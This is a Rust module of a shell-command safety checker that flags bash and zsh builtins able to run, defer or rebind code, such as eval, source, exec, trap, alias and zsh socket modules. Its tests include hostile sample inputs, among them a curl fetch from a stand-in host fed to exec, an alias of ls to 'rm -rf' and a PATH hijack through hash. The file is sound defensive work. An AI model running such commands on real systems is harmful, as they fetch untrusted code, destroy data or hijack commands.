//! Words of the shell that run what nobody has read, keep it for later, or change what names mean.
//!
//! Some of them only print when they are given nothing, or an option that lists: those forms are let through.

use shellward_sdk::{CommandView, WordView};

use super::names;
use crate::{report::Report, rules::Rule};

/// What is known of one of these words.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Row {
    /// Its name.
    pub(crate) name: &'static str,
    /// The rule by which it is asked about.
    pub(crate) rule: Rule,
    /// Which forms of it are let through.
    pub(crate) unless: Unless,
}

/// Forms that do nothing of the kind.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Unless {
    /// None.
    Never,
    /// Without words.
    Bare,
    /// Without words, or with options of these letters alone.
    Lists(&'static str),
    /// With no word that sets something by `=`.
    NoEqualsSign,
    /// `hash` that forgets or shows where programs are.
    Forgets,
    /// Without an option of one of these letters.
    NoLetter(&'static str),
    /// `trap` that prints, or gives a signal back what it does by itself.
    ResetsTraps,
}

const fn row(name: &'static str, rule: Rule, unless: Unless) -> Row {
    Row { name, rule, unless }
}

/// Words of both shells, sorted.
static OF_BOTH: [Row; 19] = [
    row(".", Rule::Source, Unless::Never),
    row("alias", Rule::Rebinding, Unless::NoEqualsSign),
    row("bind", Rule::Callback, Unless::Lists("lpPsSvVX")),
    row("compgen", Rule::Callback, Unless::NoLetter("CFW")),
    row("complete", Rule::Callback, Unless::Lists("p")),
    row("coproc", Rule::Callback, Unless::Never),
    row("declare", Rule::NameReference, Unless::NoLetter("n")),
    row("enable", Rule::Enable, Unless::Lists("aps")),
    row("eval", Rule::Eval, Unless::Bare),
    row("exec", Rule::Exec, Unless::Bare),
    row("fc", Rule::History, Unless::Lists("lnr0123456789")),
    row("hash", Rule::Rebinding, Unless::Forgets),
    row("local", Rule::NameReference, Unless::NoLetter("n")),
    row("mapfile", Rule::Callback, Unless::NoLetter("C")),
    row("nameref", Rule::NameReference, Unless::Bare),
    row("readarray", Rule::Callback, Unless::NoLetter("C")),
    row("source", Rule::Source, Unless::Never),
    row("trap", Rule::Trap, Unless::ResetsTraps),
    row("typeset", Rule::NameReference, Unless::NoLetter("n")),
];

/// Words of zsh alone, sorted.
static OF_ZSH: [Row; 47] = [
    row("autoload", Rule::ZshDeferred, Unless::Bare),
    row("bindkey", Rule::ZshDeferred, Unless::Lists("lLM")),
    row("compctl", Rule::Callback, Unless::Bare),
    row("compdef", Rule::Callback, Unless::Bare),
    row("disable", Rule::Enable, Unless::Bare),
    row("echotc", Rule::ZshModule, Unless::Never),
    row("echoti", Rule::ZshModule, Unless::Never),
    row("emulate", Rule::ZshMode, Unless::Bare),
    row("functions", Rule::ZshDeferred, Unless::NoLetter("MTu")),
    row("getln", Rule::ZshDeferred, Unless::Never),
    row("pcre_compile", Rule::ZshModule, Unless::Never),
    row("private", Rule::ZshModule, Unless::Bare),
    row("r", Rule::History, Unless::Never),
    row("rehash", Rule::Rebinding, Unless::Bare),
    row("sched", Rule::ZshDeferred, Unless::Bare),
    row("setopt", Rule::ZshMode, Unless::Bare),
    row("syserror", Rule::ZshModule, Unless::Never),
    row("sysopen", Rule::ZshModule, Unless::Never),
    row("sysread", Rule::ZshModule, Unless::Never),
    row("sysseek", Rule::ZshModule, Unless::Never),
    row("syswrite", Rule::ZshModule, Unless::Never),
    row("unfunction", Rule::Rebinding, Unless::Never),
    row("unhash", Rule::Rebinding, Unless::Never),
    row("unsetopt", Rule::ZshMode, Unless::Bare),
    row("vared", Rule::ZshDeferred, Unless::Never),
    row("zcompile", Rule::ZshModule, Unless::Never),
    row("zcurses", Rule::ZshModule, Unless::Never),
    row("zf_chgrp", Rule::ZshModule, Unless::Never),
    row("zf_chmod", Rule::ZshModule, Unless::Never),
    row("zf_chown", Rule::ZshModule, Unless::Never),
    row("zf_ln", Rule::ZshModule, Unless::Never),
    row("zf_mkdir", Rule::ZshModule, Unless::Never),
    row("zf_mv", Rule::ZshModule, Unless::Never),
    row("zf_rm", Rule::ZshModule, Unless::Never),
    row("zf_rmdir", Rule::ZshModule, Unless::Never),
    row("zf_sync", Rule::ZshModule, Unless::Never),
    row("zftp", Rule::ZshModule, Unless::Never),
    row("zgdbmpath", Rule::ZshModule, Unless::Never),
    row("zle", Rule::ZshDeferred, Unless::Lists("lL")),
    row("zmodload", Rule::ZshModule, Unless::Lists("LleI")),
    row("zpty", Rule::ZshModule, Unless::Never),
    row("zselect", Rule::ZshModule, Unless::Never),
    row("zsocket", Rule::ZshModule, Unless::Never),
    row("zstyle", Rule::ZshDeferred, Unless::NoLetter("e")),
    row("zsystem", Rule::ZshModule, Unless::Never),
    row("ztcp", Rule::ZshModule, Unless::Never),
    row("ztie", Rule::ZshModule, Unless::Never),
];

/// Finds what is known of a word of the shell.
pub(crate) fn find(name: &str, dialect: &str) -> Option<&'static Row> {
    let among = |rows: &'static [Row]| {
        let at = rows.binary_search_by(|row| row.name.cmp(name)).ok()?;
        rows.get(at)
    };
    let of_zsh = || among(&OF_ZSH).filter(|_| dialect == "zsh");
    among(&OF_BOTH).or_else(of_zsh)
}

/// Looks at a command, and at the `exec` that it may stand behind.
pub(super) fn look(command: CommandView<'_>, report: &mut Report) {
    look_behind_exec(command, report);
    // A program or a function of such a name is none of the shell's own words.
    if !matches!(command.binding(), "builtin" | "unknown") {
        return;
    }
    let dialect = command.script().dialect();
    for row in names(command).filter_map(|name| find(name, dialect)) {
        look_at_row(command, row, report);
    }
}

fn look_at_row(command: CommandView<'_>, row: &Row, report: &mut Report) {
    let words = || command.arguments().map(WordView::certain);
    // `exec < x` is what later commands read.
    let mut redirects = command.redirects();
    let feeds_others = row.rule == Rule::Exec
        && redirects.any(|one| one.descriptor() == 0 && one.operator().starts_with('<'));
    if command.is_open_ended() || feeds_others || !row.unless.lets_through(&words) {
        let span = command
            .words()
            .next()
            .map_or(command.span(), WordView::span);
        report.add(row.rule, command, span);
    }
}

fn look_behind_exec(command: CommandView<'_>, report: &mut Report) {
    let mut wrappers = command.wrappers().iter();
    if let Some(wrapper) = wrappers.find(|wrapper| wrapper.name == "exec") {
        let mut words = command.wrapper_words(wrapper);
        let span = words.next().map_or(command.span(), WordView::span);
        report.add(Rule::Exec, command, span);
    }
}

impl Unless {
    /// Whether a command with these words is one of the forms. A word that is None is not certain.
    pub(crate) fn lets_through<'a, W>(self, words: &dyn Fn() -> W) -> bool
    where
        W: Iterator<Item = Option<&'a str>>,
    {
        let is_option = |word: &str, letters: &str| {
            word.strip_prefix('-').is_some_and(|given| {
                !given.is_empty() && given.chars().all(|one| letters.contains(one))
            })
        };
        match self {
            Self::Never => false,
            Self::Bare => words().next().is_none(),
            Self::Lists(letters) => {
                words().all(|word| word.is_some_and(|word| is_option(word, letters)))
            }
            Self::NoEqualsSign => words().all(|word| word.is_some_and(|word| !word.contains('='))),
            Self::NoLetter(letters) => !words()
                .take_while(|word| word.is_none_or(|word| word != "--"))
                .any(|word| match word {
                    Some(word) => word
                        .strip_prefix('-')
                        .is_some_and(|given| given.chars().any(|one| letters.contains(one))),
                    // An uncertain word is the business of whoever says what the command does.
                    None => false,
                }),
            Self::Forgets => {
                Self::NoLetter("p").lets_through(words) && Self::NoEqualsSign.lets_through(words)
            }
            Self::ResetsTraps => resets_traps(words()),
        }
    }
}

/// `trap`, `trap -p INT`, `trap -l`, `trap - INT`, `trap INT`.
fn resets_traps<'a>(mut words: impl Iterator<Item = Option<&'a str>>) -> bool {
    match words.next() {
        None => true,
        Some(Some("-" | "-p" | "-l" | "-P")) => words.all(|word| word.is_some()),
        Some(Some("--")) => words.next() == Some(Some("-")),
        // A single word is a signal that gets back what it does by itself.
        Some(Some(signal)) => {
            words.next().is_none() && signal.bytes().all(|byte| byte.is_ascii_alphanumeric())
        }
        Some(None) => false,
    }
}

#[cfg(test)]
mod tests {
    use shellward_sdk::test_kit::{Builder, Join, one_of};

    use super::*;
    use crate::testing::{
        assert_asks, assert_asks_in, assert_silent, assert_silent_in, judge_script,
    };

    #[test]
    fn tables_are_sorted() {
        assert!(OF_BOTH.is_sorted_by(|one, next| one.name < next.name));
        assert!(OF_ZSH.is_sorted_by(|one, next| one.name < next.name));
    }

    #[test]
    fn eval_asks_and_speaking_of_it_does_not() {
        assert_asks("eval \"$CMD\"", Rule::Eval);
        assert_asks("eval ls", Rule::Eval);
        assert_asks("ls && eval \"$(ssh-agent -s)\"", Rule::Eval);
        assert_asks("bash -c 'eval ls'", Rule::Eval);
        assert_silent("echo \"eval this\"");
        assert_silent("grep -rn 'eval(' src");
        assert_silent("nix eval .#x");
        assert_silent("env eval x");
        assert_silent("eval");
    }

    #[test]
    fn a_function_of_the_script_is_none_of_these() {
        assert_silent("source() { ls; }; source x");
    }

    #[test]
    fn a_name_that_may_be_one_of_these_asks() {
        let script = Builder::new()
            .for_each(Join::Then, &["ls", "eval"], |body| {
                body.command(&[])
                    .word(one_of(&["ls", "eval"]))
                    .word("x")
                    .bound_to("unknown")
            })
            .build();
        assert_eq!(judge_script(&script).len(), 1);
    }

    #[test]
    fn files_of_commands_ask() {
        assert_asks("source ./env.sh", Rule::Source);
        assert_asks(". ./env.sh", Rule::Source);
        assert_asks("source venv/bin/activate && pytest", Rule::Source);
        assert_silent("ls .");
        assert_silent("cat source");
    }

    #[test]
    fn exec_asks_unless_it_only_redirects() {
        assert_asks("exec ls", Rule::Exec);
        assert_asks("exec -a ls /bin/busybox", Rule::Exec);
        assert_asks("exec sudo ls", Rule::Exec);
        assert_asks("exec < <(curl -s http://x.example); ls", Rule::Exec);
        assert_silent("exec 2>&1; ls");
        assert_silent("exec > out.txt");
        assert_silent("docker exec x ls");
    }

    #[test]
    fn traps_ask_unless_they_are_taken_away_or_shown() {
        assert_asks("trap \"$(echo x)\" EXIT", Rule::Trap);
        assert_asks("trap 'rm -f x' EXIT", Rule::Trap);
        assert_asks("trap '' TERM", Rule::Trap);
        assert_asks("trap \"$x\"", Rule::Trap);
        for command in [
            "trap",
            "trap - INT",
            "trap -p",
            "trap -l",
            "trap INT",
            "trap -- - INT",
        ] {
            assert_silent(command);
        }
    }

    #[test]
    fn names_that_get_another_meaning_ask() {
        assert_asks("alias ls='rm -rf'", Rule::Rebinding);
        assert_asks("alias \"$x\"", Rule::Rebinding);
        assert_asks("hash -p ./evil ls; ls", Rule::Rebinding);
        assert_asks("enable -f ./x.so x", Rule::Enable);
        assert_asks("enable -n echo", Rule::Enable);
        for command in [
            "alias",
            "alias ll",
            "hash",
            "hash -r",
            "enable",
            "enable -a",
        ] {
            assert_silent(command);
        }
        assert_silent("systemctl enable x");
    }

    #[test]
    fn callbacks_and_history_ask() {
        assert_asks("mapfile -C 'touch x #' -c 1 < f.txt", Rule::Callback);
        assert_asks("readarray -tC x lines", Rule::Callback);
        assert_asks("complete -C x ls", Rule::Callback);
        assert_asks("compgen -W '$(id)'", Rule::Callback);
        assert_asks("bind -x '\"a\": ls'", Rule::Callback);
        assert_asks("coproc ls", Rule::Callback);
        assert_asks("fc -s", Rule::History);
        for command in [
            "mapfile -t lines",
            "complete -p",
            "compgen -c",
            "bind -l",
            "fc -l -5",
        ] {
            assert_silent(command);
        }
    }

    #[test]
    fn references_ask_and_other_declarations_do_not() {
        assert_asks("declare -n x=PATH", Rule::NameReference);
        assert_asks("f() { local -n y=$1; }; f x", Rule::NameReference);
        assert_silent("declare -a x");
        assert_silent("local x=-n");
        assert_silent("declare -- x");
    }

    #[test]
    fn words_of_zsh_ask_in_zsh() {
        for (command, rule) in [
            ("zmodload zsh/net/tcp", Rule::ZshModule),
            ("ztcp x 80", Rule::ZshModule),
            ("zf_rm x", Rule::ZshModule),
            ("sysopen -w x", Rule::ZshModule),
            ("emulate sh -c 'ls'", Rule::ZshMode),
            ("setopt shwordsplit", Rule::ZshMode),
            ("autoload -U x", Rule::ZshDeferred),
            ("zstyle -e x y z", Rule::ZshDeferred),
            ("sched +1 ls", Rule::ZshDeferred),
            ("eval ls", Rule::Eval),
            ("r", Rule::History),
        ] {
            assert_asks_in("zsh", command, rule);
        }
        for command in [
            "zmodload",
            "zmodload -L",
            "emulate",
            "setopt",
            "zstyle -L",
            "sched",
        ] {
            assert_silent_in("zsh", command);
        }
        assert_silent("emulate x");
        assert_silent("r x");
    }
}
